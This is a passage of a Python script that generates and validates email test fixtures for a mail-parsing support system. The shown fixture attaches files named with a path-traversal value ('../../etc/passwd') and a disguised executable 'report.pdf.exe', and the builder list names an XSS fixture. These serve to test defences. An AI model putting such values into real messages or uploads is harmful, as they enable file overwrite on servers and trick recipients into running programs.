Date: Fri, 7 Mar 2025 09:30:27 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: support@desk.test
From: Felix Brandt <felix.brandt@example.org>
Subject: Logs zum Vorfall heute Nacht
Content-Type: multipart/mixed; boundary="{boundary}"
"""
    passwd = b"root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 15 + b"This program cannot be run in DOS mode.\r\r\n$"
    log = b"2025-03-07T02:14:55Z DENY tcp 203.0.113.250:51515 -> 10.20.0.5:3389\n"
    body = crlf(
        f"This is a multi-part message in MIME format.\n--{boundary}\n"
        "Content-Type: text/plain; charset=UTF-8; format=flowed\nContent-Transfer-Encoding: 8bit\n\n"
        f"{text}--{boundary}\n"
        "Content-Type: text/plain; charset=UTF-8; name*=UTF-8''..%2F..%2Fetc%2Fpasswd\n"
        "Content-Disposition: attachment; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd\n"
        "Content-Transfer-Encoding: base64\n\n").encode("utf-8")
    body += b64_lines(passwd).encode() + b"\r\n\r\n"
    body += crlf(f"--{boundary}\n"
                 'Content-Type: application/x-msdownload; name="report.pdf.exe"\n'
                 'Content-Disposition: attachment; filename="report.pdf.exe"\n'
                 "Content-Transfer-Encoding: base64\n\n").encode()
    body += b64_lines(exe).encode() + b"\r\n\r\n"
    body += crlf(f"--{boundary}\n"
                 "Content-Type: text/plain; charset=UTF-8;\n" + rfc2231_continuations("name", long) + "\n"
                 "Content-Disposition: attachment;\n" + rfc2231_continuations("filename", long) + "\n"
                 "Content-Transfer-Encoding: base64\n\n").encode()
    body += b64_lines(log).encode() + b"\r\n\r\n"
    body += crlf(f"--{boundary}--\n").encode()
    fixture("attachment-evil-filename.eml", message(head, body),
            from_address="felix.brandt@example.org", from_name="Felix Brandt", subject="Logs zum Vorfall heute Nacht",
            body_contains="drei Anhänge zum Vorfall",
            attachments=["../../etc/passwd", "report.pdf.exe", long])


BUILDERS = [
    outlook_html_windows1252, outlook_tnef_winmail, gmail_utf8, apple_mail_inline_image, iphone_plain,
    android_gmail_reply, iso_2022_jp, koi8r_russian, broken_charset, forwarded_as_attachment, dsn_bounce,
    out_of_office, mailing_list_bulk, html_xss, no_from_garbage, many_recipients_cc, attachment_evil_filename,
]

# Files whose line endings are broken on purpose.
MIXED_LINE_ENDINGS = {"no-from-garbage.eml"}


# --------------------------------------------------------------------------------- check


def observed(name: str, data: bytes) -> dict:
    """What Python's email package reads from a fixture, in the manifest's terms."""
    msg = email.message_from_bytes(data, policy=email.policy.default)
    frm = msg["From"]
    mailbox = frm.addresses[0] if frm is not None and frm.addresses else None
    subject = msg["Subject"]

    def leaves(part):
        # message/* parts (a forwarded mail, a delivery status) are leaves here, as they are to a mail reader.
        if part.get_content_maintype() == "message" or not part.is_multipart():
            yield part
        else:
            for sub in part.iter_parts():
                yield from leaves(sub)

    attachments, inline, texts = [], 0, []
    for part in leaves(msg):
        ctype = part.get_content_type()
        disposition = part.get_content_disposition()
        if ctype in ("application/ms-tnef", "application/vnd.ms-tnef"):
            attachments += [a["title"] for a in read_tnef(part.get_payload(decode=True))]
        elif disposition == "attachment":
            attachments.append(part.get_filename())
        elif ctype.startswith("image/") and part["Content-ID"]:
            inline += 1
        elif ctype in ("text/plain", "text/html"):
            texts.append(part.get_content())

    body = msg.get_body(preferencelist=("plain", "html"))
    auto = msg["Auto-Submitted"]
    precedence = (msg["Precedence"] or "").strip().lower()
    return {
        "file": name,
        "fromAddress": mailbox.addr_spec.lower() if mailbox else None,
        "fromName": (mailbox.display_name or None) if mailbox else None,
        "subject": str(subject) if subject is not None else None,
        "body": body.get_content() if body is not None else "\n".join(texts),
        "attachments": attachments,
        "inlineImages": inline,
        "autoReply": auto is not None and not str(auto).strip().lower().startswith("no"),
        "bulk": precedence in ("bulk", "list", "junk") or msg["List-Id"] is not None,
        "bounce": msg.get_content_type() == "multipart/report"
                  and msg.get_param("report-type", "").lower() == "delivery-status",
        "inReplyTo": str(msg["In-Reply-To"]).strip().strip("<>") if msg["In-Reply-To"] else None,
        "cc": [a.addr_spec.lower() for a in msg["Cc"].addresses] if msg["Cc"] else [],
    }


def check(manifest) -> int:
    failures = 0

    def fail(text):
        nonlocal failures
        failures += 1
        print("FAIL", text)

    names = sorted(p.name for p in HERE.glob("*.eml"))
    if names != sorted(e["file"] for e in manifest):
        fail(f"the .eml files on disk do not match the manifest: {names}")
    for entry in manifest:
        name = entry["file"]
        data = (HERE / name).read_bytes()
        for key, value in entry.items():
            for text in value if isinstance(value, list) else [value]:
                if isinstance(text, str) and unicodedata.normalize("NFC", text) != text:
                    fail(f"{name}: {key} is not in Unicode NFC")
        if name not in MIXED_LINE_ENDINGS:
            stripped = data.replace(b"\r\n", b"")
            if b"\n" in stripped or b"\r" in stripped:
                fail(f"{name}: a bare CR or LF")
            if not data.endswith(b"\r\n"):
                fail(f"{name}: does not end in CRLF")
        for line in data.split(b"\n"):
            if len(line.rstrip(b"\r")) > 998:
                fail(f"{name}: a line longer than 998 octets")
        head = data.split(b"\r\n\r\n", 1)[0]
        if any(c > 127 for c in head):
            fail(f"{name}: 8-bit bytes in the header")
        got = observed(name, data)
        for key in ("fromAddress", "fromName", "subject", "attachments", "inlineImages", "autoReply", "bulk",
                    "bounce", "inReplyTo", "cc"):
            if got[key] != entry[key]:
                fail(f"{name}: {key} is {got[key]!r}, the manifest says {entry[key]!r}")
        if entry["bodyContains"] not in got["body"]:
            fail(f"{name}: the body does not contain {entry['bodyContains']!r}")
    tnef = read_tnef(winmail_dat())
    if [a["title"] for a in tnef] != ["error-log.txt"] or tnef[0]["data"] != TNEF_ATTACHMENT_CONTENT:
        fail("winmail.dat does not carry error-log.txt")
    print(f"{len(manifest)} fixtures checked, {failures} failures")
    return failures


def main() -> int:
    if "--check" not in sys.argv[1:]:
        for build in BUILDERS:
            build()
        for name, data, _ in FIXTURES:
            (HERE / name).write_bytes(data)
        manifest = [entry for _, _, entry in FIXTURES]
        (HERE / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
        print(f"wrote {len(FIXTURES)} fixtures and manifest.json")
    manifest = json.loads((HERE / "manifest.json").read_text(encoding="utf-8"))
    return 1 if check(manifest) else 0


if __name__ == "__main__":
    sys.exit(main())
